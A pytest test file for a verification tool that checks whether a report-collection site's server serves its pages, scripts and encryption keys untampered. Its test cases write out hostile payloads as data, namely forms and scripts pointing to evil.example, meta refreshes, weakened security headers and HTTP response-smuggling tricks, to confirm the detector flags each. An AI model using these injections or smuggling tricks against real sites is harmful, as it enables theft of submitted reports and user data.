"""Lies of a server that would read a report before it is sealed: `suluh verify` names each of them."""

from __future__ import annotations

import gzip
import itertools
import json
import re
import socket
import socketserver
import threading
from contextlib import contextmanager
from functools import partial
from http.server import SimpleHTTPRequestHandler, ThreadingHTTPServer
from typing import TYPE_CHECKING, Any, TypeAlias

import pytest
from flask import request
from werkzeug.serving import make_server

from collector.core.age import hybrid_recipient
from collector.upkeep import fetching, verify
from collector.web import guard
from collector.web.rendering import Announced, public_keys

if TYPE_CHECKING:
    from collections.abc import Callable, Iterator
    from pathlib import Path

    from flask import Flask, Response

    from collector.core.opening import HybridIdentity
    from collector.forms.schema import FormSpec
    from collector.store import Store

PAGE = "<!doctype html><html lang=id><meta charset=utf-8><body><header></header><main>Beranda</main><script>1</script>"
EVIL = "https://evil.example"
Lie: TypeAlias = "Callable[[Response], None]"
Twist: TypeAlias = "Callable[[bytes], bytes]"


@pytest.fixture
def build(tmp_path: Path) -> Path:
    """A small build: pages, what an honest server sends packed, and the scripts that a form page loads."""
    build = tmp_path / "build"
    for name in ("publik/index.html", "publik/cara/index.html", "publik/404.html"):
        (build / name).parent.mkdir(parents=True, exist_ok=True)
        (build / name).write_text(PAGE)
    (build / "publik/sitemap.xml.gz").write_bytes(gzip.compress(b"<urlset/>"))
    (build / "client").mkdir()
    for name in ("enclosing.js", "exit.js", "form.js", "mailbox.js", "worker.js", "work.css"):
        (build / "client" / name).write_text(f"/* {name} */")
    return build


@pytest.fixture
def said(build: Path, identity: HybridIdentity) -> Announced:
    """What is announced of the honest server."""
    contacts = dict.fromkeys(("danger", "danger-box"), '<a class="call" href="tel:110">110</a>')
    keys = public_keys([identity.recipient], {})
    return Announced(
        keys,
        contacts,
        guard.integrities(build / "client"),
        "Senin sampai Jumat, 08.00–15.00",
        demo=False,
        service="Layanan",
    )


@pytest.fixture
def faults(
    make_app: Callable[..., Flask], build: Path, said: Announced, forms: dict[str, FormSpec]
) -> Callable[..., list[str]]:
    """What verify says of a server that lies at one path."""

    def judge(path: str = "/", lie: Lie | None = None, twist: Twist | None = None, **changes: object) -> list[str]:
        app = make_app(public_site=build / "publik", client=build / "client", **changes)
        app.config["TRUSTED_HOSTS"] = None
        if lie:
            app.after_request_funcs[None].insert(0, lying(path, lie))  # the last word, behind our own headers
        wanted = verify.expected(build, forms, said)
        marks = [key.fingerprint for key in said.keys]
        with serving(app) as honest, twisted(honest, path, twist or bytes) as origin:
            return list(verify.all_faults(origin, wanted, marks))

    return judge


class Twisting(socketserver.ThreadingTCPServer):
    """A server that passes on what an honest one answers, but twists the bytes of one path's answers."""

    def __init__(self, honest: str, path: str, twist: Twist) -> None:
        """`twist` gets the whole answer as it goes over the line."""
        super().__init__(("127.0.0.1", 0), Answering)
        self.behind, self.path, self.twist = int(honest.rpartition(":")[2]), path, twist


class Answering(socketserver.StreamRequestHandler):
    """One request."""

    server: Twisting

    def handle(self) -> None:
        """Pass on each request's head, marked with its place on the connection, and give back what comes."""
        for count in itertools.count(1):
            head = b""
            while not head.endswith(b"\r\n\r\n") and (line := self.rfile.readline()):
                head += line
            if not head:
                return
            with socket.create_connection(("127.0.0.1", self.server.behind)) as inner:
                inner.sendall(head.replace(b"keep-alive\r\n", b"close\r\nNth: %d\r\n" % count))
                answer = inner.makefile("rb").read()
            if re.split(rb"[ ?]", head)[1].decode() == self.server.path and self.server.twist is not bytes:
                self.wfile.write(self.server.twist(answer))
                return
            self.wfile.write(answer.replace(b"Connection: close\r\n", b"", 1))


@contextmanager
def twisted(honest: str, path: str, twist: Twist) -> Iterator[str]:
    """Serve twisted answers, and give their origin."""
    with Twisting(honest, path, twist) as server:
        thread = threading.Thread(target=server.serve_forever, args=(0.02,))
        thread.start()
        yield f"http://127.0.0.1:{server.server_address[1]}"
        server.shutdown()
        thread.join()


def lying(path: str, lie: Lie) -> Callable[[Response], Response]:
    """A server that answers honestly everywhere but at one path."""

    def after(response: Response) -> Response:
        if request.path == path:
            response.direct_passthrough = False
            lie(response)
        return response

    return after


@contextmanager
def serving(app: Flask) -> Iterator[str]:
    """Serve an application on a loopback port, and give its origin."""
    server = make_server("127.0.0.1", 0, app, threaded=True)
    thread = threading.Thread(target=server.serve_forever, args=(0.02,))
    thread.start()
    yield f"http://127.0.0.1:{server.port}"
    server.shutdown()
    thread.join()
    server.server_close()


def put_in(html: str) -> Lie:
    """A lie that stands in the page's head."""
    return lambda response: response.set_data(response.get_data().replace(b"<body>", html.encode() + b"<body>", 1))


def put_json(value: object, response: Response) -> None:
    """A lie that is the whole answer."""
    response.set_data(json.dumps(value))


def header(name: str, value: str) -> Lie:
    """A lie in a header."""
    return lambda response: response.headers.set(name, value)


def test_an_honest_server_passes(faults: Callable[..., list[str]]) -> None:
    """Every file, every form page and the mailbox are what the source says, a packed sitemap among them."""
    assert faults() == []


def test_a_form_kept_shut_is_named(faults: Callable[..., list[str]], store: Store) -> None:
    """Whoever keeps a form shut, though officers are on duty and have keys, silences: its path is named, once."""
    store.close_form("laporan")
    assert {fault.partition(":")[0] for fault in faults()} == {"lapor"}


def test_a_form_that_has_no_readers_is_shut_rightly(faults: Callable[..., list[str]], said: Announced) -> None:
    """While the switch is shut, an honest server shows the page of a closed form; nothing is named."""
    object.__setattr__(said, "staffed", None)
    assert faults(staffed=None) == []


@pytest.mark.parametrize("path", ["/lapor", "/kotak"])
@pytest.mark.parametrize(
    "lie",
    [
        lambda response: response.set_data(f'<form action="{EVIL}"><textarea name=a></textarea></form>'),
        put_in(f'<base href="{EVIL}/">'),
        put_in(f'<iframe srcdoc="&lt;script src={EVIL}/a.js&gt;&lt;/script&gt;"></iframe>'),
        put_in(f'<meta http-equiv="refresh" content="0;url={EVIL}">'),
        put_in('<a href="javascript:alert(1)">Lanjut</a>'),
        put_in(f'<link rel="modulepreload" href="{EVIL}/a.js">'),
        put_in(f"<!--><script src={EVIL}/a.js></script><!-- -->"),
        lambda response: response.set_data(
            response.get_data() + b" " * fetching.LARGEST + f"<script src={EVIL}/a.js></script>".encode()
        ),
        header("Content-Type", "text/html; charset=iso-2022-jp"),
        header("Content-Encoding", "gzip"),
        header("Refresh", f"0;url={EVIL}"),
        header("Content-Disposition", "attachment; filename=lapor.html"),
        header("Link", f"<{EVIL}/a.js>; rel=modulepreload"),
        header("Set-Cookie", "who=1"),
        header("Service-Worker-Allowed", "/"),
        header("Clear-Site-Data", '"cookies"'),
        header("Alt-Svc", 'h2="evil.example:443"'),
        header("Content-Encoding", "br"),
        header("Content-Type", "text/html; charset=utf-8; charset=iso-2022-jp"),
        lambda response: response.headers.add("Content-Type", "text/html; charset=utf-7"),
        lambda response: response.headers.add("Content-Security-Policy", "default-src *"),
        lambda response: response.headers.update({"Location": EVIL}),
        lambda response: setattr(response, "status_code", 302),
        header("Content-Security-Policy", "default-src *"),
        lambda response: response.headers.pop("Content-Security-Policy"),
        lambda response: response.headers.add("Content-Security-Policy-Report-Only", f"report-uri {EVIL}"),
    ],
    ids=[
        "plain form", "base", "srcdoc", "meta refresh", "javascript", "modulepreload", "parser", "after 16 MiB",
        "charset", "encoding", "refresh", "download", "link", "cookie", "worker scope", "clears", "other server",
        "unknown packing", "two charsets", "two types", "two policies", "location", "redirect", "weak policy",
        "no policy", "reports",
    ],
)  # fmt: skip
def test_a_page_that_would_steal_a_report_is_named(faults: Callable[..., list[str]], path: str, lie: Lie) -> None:
    """One lie in the report's page or in the mailbox's, in its bytes or its headers, is found and named by its path."""
    found = faults(path, lie)
    assert found
    assert all(fault.startswith(path.lstrip("/") + ":") for fault in found)


def in_head(line: bytes) -> Twist:
    """One line more at the end of an answer's head, as it goes over the line."""
    return lambda answer: answer.replace(b"\r\n\r\n", b"\r\n" + line + b"\r\n\r\n", 1)


def instead(old: bytes, new: bytes) -> Twist:
    """Other bytes in the place of some of the head."""
    return lambda answer: re.sub(rb"(?m)" + old, new, answer, count=1)


def chunked(tail: bytes) -> Twist:
    """The same body in one chunk, and something behind it."""

    def twist(answer: bytes) -> bytes:
        head, _, body = answer.partition(b"\r\n\r\n")
        head = re.sub(rb"Content-Length: [^\r]*", b"Transfer-Encoding: chunked", head)
        return head + b"\r\n\r\n" + b"%x\r\n" % len(body) + body + b"\r\n" + tail

    return twist


def packed(tail: bytes) -> Twist:
    """The same body as gzip, and something behind it."""

    def twist(answer: bytes) -> bytes:
        head, _, body = answer.partition(b"\r\n\r\n")
        body = gzip.compress(body) + tail
        head = re.sub(rb"Content-Length: [^\r]*", b"Content-Encoding: gzip\r\nContent-Length: %d" % len(body), head)
        return head + b"\r\n\r\n" + body

    return twist


MORE = b"<script src=//evil.example/a.js></script>"


@pytest.mark.parametrize(
    "twist",
    [
        in_head(b"not a header\r\nRefresh: 0;url=//evil.example"),
        instead(rb"^Content-Security-Policy:", b"Server: x\rContent-Security-Policy:"),
        instead(rb"^Content-Security-Policy:", b"Server: x\r\n Content-Security-Policy:"),
        instead(rb"^Content-Security-Policy:", b"Content-Security-Policy :"),
        in_head(b"rEFRESH: 0;url=//evil.example"),
        in_head(b"Server: a\0b"),
        lambda answer: b"HTTP/1.1 103 Early Hints\r\nLink: </a.js>; rel=preload\r\n\r\n" + answer,
        lambda answer: instead(rb"Content-Length: ", b"Content-Length: +")(answer) + MORE,
        lambda answer: instead(rb"(Content-Length: )([^\r]*)", rb"\1\2\r\n\1 99999")(answer) + MORE,
        in_head(b"Transfer-Encoding: chunked"),
        in_head(b"Transfer-Encoding: identity"),
        chunked(b"0\r\nRefresh: 0;url=//evil.example\r\n\r\n"),
        chunked(b"%x;x=y\r\n%s\r\n0\r\n\r\n" % (len(MORE), MORE)),
        packed(gzip.compress(MORE)),
        packed(MORE),
        lambda answer: MORE + answer,
        lambda answer: answer.partition(b"\r\n\r\n")[2],
        lambda answer: answer[:-1],
    ],
    ids=[
        "after no header", "bare return", "folded", "space in a name", "odd case", "zero byte", "early hints",
        "signed length", "two lengths", "length and chunks", "unknown coding", "trailers", "chunk extension",
        "two members", "behind the member", "before the answer", "no head", "cut off",
    ],
)  # fmt: skip
def test_an_answer_that_a_browser_reads_otherwise_is_named(faults: Callable[..., list[str]], twist: Twist) -> None:
    """Bytes that a library takes for the honest page, and a browser perhaps for another one, are no answer."""
    found = faults("/lapor", twist=twist)
    assert found
    assert all(fault.startswith("lapor:") for fault in found)


def test_what_an_honest_proxy_changes_is_no_lie(faults: Callable[..., list[str]]) -> None:
    """A page that comes in chunks, or packed as gzip because the browser offers it, is the same page."""
    assert faults("/lapor", twist=chunked(b"0\r\n\r\n")) == []
    assert faults("/lapor", twist=packed(b"")) == []


@pytest.mark.parametrize(
    "asks",
    [
        lambda: "Android" in request.headers["User-Agent"],
        lambda: "Windows" in request.headers["Sec-Ch-Ua-Platform"],
        lambda: request.headers["Sec-Fetch-Dest"] == "document",
        lambda: "br" in request.headers["Accept-Encoding"],
        lambda: bool(request.query_string),
        lambda: request.headers["Sec-Fetch-Site"] == "same-origin",
        lambda: request.headers["Sec-Fetch-Site"] == "cross-site",
        lambda: request.headers["Nth"] != "1",
        partial(next, itertools.cycle([False, True])),
    ],
    ids=[
        "a phone",
        "a laptop",
        "a browser's page",
        "packing",
        "a link with a query",
        "our link",
        "a link elsewhere",
        "a kept line",
        "the second time",
    ],
)
def test_a_lie_for_browsers_alone_is_named(faults: Callable[..., list[str]], asks: Callable[[], bool]) -> None:
    """A server that lies only to some kind of browser, of link or of visit lies to the one who checks as well."""
    assert faults("/lapor", lambda response: response.set_data(b"lie") if asks() else None)


@pytest.mark.parametrize(("target", "mode"), [("worker", "same-origin"), ("script", "no-cors"), ("script", "cors")])
def test_a_script_that_lies_to_one_loader_alone_is_named(
    faults: Callable[..., list[str]], target: str, mode: str
) -> None:
    """The sealing code is loaded as a worker: a server that lies only to that, or only to a page's script, is named."""

    def lie(response: Response) -> None:
        if (request.headers["Sec-Fetch-Dest"], request.headers["Sec-Fetch-Mode"]) == (target, mode):
            response.set_data(response.get_data() + b" ")

    assert any(fault.startswith("static/worker.js:") for fault in faults("/static/worker.js", lie))


def test_a_page_where_no_page_is_is_named(faults: Callable[..., list[str]]) -> None:
    """A form of somebody else's at an address that is typed nearly right, or a header beside our missing page."""
    for lie in (put_in("<form>"), header("Refresh", f"0;url={EVIL}")):
        assert any(fault.startswith(("lapor/:", "404.html:")) for fault in faults("/lapor/", lie))


def test_a_cookie_beside_the_keys_is_named(faults: Callable[..., list[str]]) -> None:
    """A header that would know the reader again is found where no page is, too."""
    found = faults("/api/recipients", header("Set-Cookie", "who=1"))
    assert found
    assert all(fault.startswith(verify.KEYS + ":") for fault in found)


@pytest.fixture
def plain(build: Path, forms: dict[str, FormSpec], said: Announced) -> Iterator[Callable[[], list[str]]]:
    """What verify says of the public site as files, given out by a server that knows of nothing else."""

    class Files(SimpleHTTPRequestHandler):
        def __init__(self, *given: Any) -> None:
            super().__init__(*given, directory=str(build / "publik"))

        def send_error(self, code: int, *_: object) -> None:
            self.send_response(code)
            self.send_header("Content-Type", "text/html")
            self.end_headers()
            self.wfile.write((build / "publik/404.html").read_bytes())

        def log_message(self, *_: object) -> None:
            pass

    wanted = verify.expected(build, forms, said)
    with ThreadingHTTPServer(("127.0.0.1", 0), Files) as server:
        thread = threading.Thread(target=server.serve_forever, args=(0.02,))
        thread.start()
        yield lambda: list(verify.all_faults(f"http://127.0.0.1:{server.server_port}", wanted, [], plain=True))
        server.shutdown()
        thread.join()


def test_a_host_of_files_is_compared_as_far_as_it_goes(plain: Callable[[], list[str]]) -> None:
    """The public site as plain files passes without its forms; as a whole site it does not."""
    assert plain() == []


def test_a_form_on_a_host_of_files_is_named(plain: Callable[[], list[str]], build: Path) -> None:
    """Where the source has no form, whatever is answered at its address is somebody else's, as is a changed page."""
    (build / "publik/lapor").write_text("<form>")
    (build / "publik/cara/index.html").write_text(PAGE + "<form>")
    assert {fault.partition(":")[0] for fault in plain()} == {"lapor", "cara/index.html"}


@pytest.mark.parametrize("path", ["/static/form.js", "/static/worker.js", "/static/work.css", "/cara/"])
def test_one_byte_more_in_a_script_or_a_page_is_named(faults: Callable[..., list[str]], path: str) -> None:
    """The sealing code, which no form page holds itself, is compared whole, and so is every other file."""
    assert faults(path, lambda response: response.set_data(response.get_data() + b" "))


def test_keys_of_somebody_else_are_named(faults: Callable[..., list[str]], identity: HybridIdentity) -> None:
    """Another key, one more, or none: given beside honest pages, or named by the pages too."""
    stranger = hybrid_recipient(bytes(32))
    for keys in ([stranger], [identity.recipient, stranger], []):
        listed = {"recipients": [str(key) for key in keys]}
        found = faults("/api/recipients", partial(put_json, listed))
        assert {fault[: len(verify.KEYS)] for fault in found} == {verify.KEYS}
        assert len(faults(recipients=keys)) > 1


def test_without_an_announced_key_nothing_passes(faults: Callable[..., list[str]], said: Announced) -> None:
    """A server that has no key to be compared with fails, and is told why."""
    object.__setattr__(said, "keys", [])
    assert any("Belum ada kunci" in fault for fault in faults(recipients=[]))
